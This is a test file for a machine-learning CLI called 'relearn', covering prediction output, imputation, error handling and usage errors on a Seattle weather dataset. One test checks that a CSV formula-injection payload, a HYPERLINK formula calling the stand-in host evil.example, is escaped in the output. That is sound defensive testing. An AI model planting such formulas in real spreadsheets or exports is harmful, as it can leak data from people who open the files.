    expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
    expect(stdout).toMatch(new RegExp(`^wrote ${escapeRegex(out)}: 1461 rows, the input's 6 columns and prediction, probability_drizzle, `));
    const { header, rows: body } = readPredictions(out);
    expect(header).toEqual(['date', 'precipitation', 'temp_max', 'temp_min', 'wind', 'weather', 'prediction', ...CLASSES.map((c) => `probability_${c}`)]);
    expect(body).toHaveLength(SEATTLE_ROWS);
    expect(body[0]!.slice(0, 6)).toEqual(['2012-01-01', '0', '12.8', '5', '4.7', 'drizzle']);

    // Outside relearn: the standard files through a plain IOHandler, the card's preprocessing on the same rows.
    const { tf } = await nodeMl();
    const { model, card } = await loadModelDir(tf, weatherModel);
    const csv = await readCsv((async function* () {
      yield new Uint8Array(readFileSync(SEATTLE));
    })());
    const table = buildTable([{ id: 'seattle', name: 'seattle', columns: csv.columns.map((b) => b.column) }], card.preprocessing.features.map((f) => f.name));
    const x = transform(card.preprocessing, table);
    const y = model.predict(tf.tensor2d(x, [table.rows, card.preprocessing.width])) as Tf.Tensor;
    const probabilities = (await y.array()) as number[][];
    y.dispose();
    model.dispose();
    body.forEach((row, i) => {
      const p = probabilities[i]!;
      expect(row.slice(7).map(Number)).toEqual(p);
      expect(row[6]).toBe(CLASSES[p.indexOf(Math.max(...p))]);
    });
  });

  it('a regression model: one prediction column; the target column need not be there', async () => {
    const file = seattleWith((cells) => cells, ['precipitation', 'temp_min', 'wind', 'weather']);
    const out = newPath('temp.csv');
    const { code, stdout } = await runMain(['predict', '--model', tempModel, '--data', file, '--out', out, '--json']);
    expect(code).toBe(0);
    expect(JSON.parse(stdout)).toEqual({ rows: SEATTLE_ROWS, out, columns: ['prediction'] });
    const { header, rows: body } = readPredictions(out);
    expect(header).toEqual(['precipitation', 'temp_min', 'wind', 'weather', 'prediction']);
    for (const row of body) expect(Number.isFinite(Number(row[4]))).toBe(true);
  });

  it('formula-like cells are escaped in the output', async () => {
    const fixture = csvFixture('ok_formula_injection.csv');
    const trained = await train(['--data', fixture, '--target', 'label', '--task', 'classification', '--features', 'x', ...FAST]);
    expect(trained.code, trained.stderr).toBe(0);
    const out = newPath('formula.csv');
    expect((await runMain(['predict', '--model', trained.out, '--data', fixture, '--out', out])).code).toBe(0);
    const text = readFileSync(out, 'utf8');
    expect(text.split('\r\n')[0]).toBe('x,comment,label,prediction,probability_0,probability_1');
    expect(text.split('\r\n')[1]).toMatch(/^0,"'=HYPERLINK\(""http:\/\/evil\.example\/\?q=0""\)",0,[01],0\.\d+,0\.\d+$/);
    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });

  it('missing values in numeric features are imputed; a file of only the features works', async () => {
    const fixture = csvFixture('ok_missing_tokens.csv');
    const trained = await train(['--data', fixture, '--target', 'label', '--task', 'classification', ...FAST, '--json']);
    expect(trained.code, trained.stderr).toBe(0);
    const evaluated = await runMain(['evaluate', '--model', trained.out, '--data', fixture, '--json']);
    expect(evaluated.code).toBe(0);
    expect(Object.keys(JSON.parse(evaluated.stdout).metrics)).toEqual(['accuracy', 'precision', 'recall', 'f1', 'rocAuc', 'logLoss', 'confusionMatrix']);
    const out = newPath('missing.csv');
    expect((await runMain(['predict', '--model', trained.out, '--data', fixture, '--out', out])).code).toBe(0);
    expect(readPredictions(out).rows.every((row) => row[3] === '0' || row[3] === '1')).toBe(true);
  });

  it('a missing feature column, a bad file, a --out it cannot write: exit 1, nothing written', async () => {
    const noWind = seattleWith((cells) => cells, ['precipitation', 'temp_max', 'temp_min']);
    const out = newPath('never.csv');
    expect(await runMain(['predict', '--model', weatherModel, '--data', noWind, '--out', out])).toEqual({ code: 1, stdout: '', stderr: `error: ${noWind}: lacks the feature column "wind", which the model needs\n` });
    expect(existsSync(out)).toBe(false);
    const ragged = csvFixture('bad_ragged.csv');
    expect((await runMain(['predict', '--model', weatherModel, '--data', ragged, '--out', out])).stderr).toBe(`error: ${ragged}:52: expected 3 fields as in the header, found 2\n`);
    const nowhere = path.join(root, 'no-such-dir', 'p.csv');
    expect((await runMain(['predict', '--model', weatherModel, '--data', SEATTLE, '--out', nowhere])).stderr).toBe(`error: ${nowhere}: cannot be written (its directory does not exist); nothing was written\n`);
    expect((await runMain(['predict', '--model', weatherModel, '--data', SEATTLE, '--out', root])).stderr).toBe(`error: ${root}: is a directory; --out takes the CSV file to write\n`);
    expect(readdirSync(root).filter((n) => n.startsWith('.'))).toEqual([]);
  });

  it('usage errors exit 2', async () => {
    for (const [args, first] of [
      [['--model', weatherModel, '--data', SEATTLE], 'error: predict needs --out FILE'],
      [['--model', weatherModel, '--data', SEATTLE, '--out', SEATTLE], 'error: --out must differ from --data: predict does not overwrite its input'],
      [['--model', weatherModel, '--data', SEATTLE, '--out', 'p.csv', 'extra'], "error: Unexpected argument 'extra'"],
    ] as const) {
      const { code, stderr } = await runMain(['predict', ...args]);
      expect(code).toBe(2);
      expect(stderr.split('\n')[0]).toContain(first);
    }
  });
});

describe('bin/relearn.js', () => {
  const relearn = (...args: string[]) => spawnSync(process.execPath, [path.join(repoRoot, 'bin', 'relearn.js'), ...args], { cwd: repoRoot, encoding: 'utf8' });

  it('trains on wasm in a real process, and exits 1 on bad input with one line', () => {
    const out = newPath('bin-model');
    const trained = relearn('train', ...WEATHER, '--epochs', '2', '--out', out, '--json');
    expect(trained.status, trained.stderr).toBe(0);
    expect(JSON.parse(trained.stdout)).toMatchObject({ task: 'multiclass', backend: 'wasm', rows: SEATTLE_ROWS });
    const refused = relearn('evaluate', '--model', root, '--data', SEATTLE);
    expect(refused.status).toBe(1);
    expect(refused.stderr).toBe(`error: ${root}: has no model.json: not a model directory (relearn train --out DIR writes one)\n`);
  });

  it('inspect and drift do not load TensorFlow.js', () => {
    const script = path.join(root, 'no-tf.mts');
    writeFileSync(
      script,
      `const { main } = await import(${JSON.stringify(path.join(repoRoot, 'src', 'cli', 'main.ts'))});
const file = ${JSON.stringify(csvFixture('ok_crlf_quoted.csv'))};
await main(['inspect', file, '--json']);
await main(['drift', '--reference', file, '--current', file, '--json']);
process.stderr.write('tfjs engine: ' + typeof globalThis._tfengine + '\\n');`,
    );
    const run = spawnSync(process.execPath, ['--import', 'tsx', script], { cwd: repoRoot, encoding: 'utf8' });
    expect(run.status, run.stderr).toBe(0);
    expect(run.stderr).toBe('tfjs engine: undefined\n');
  });
});
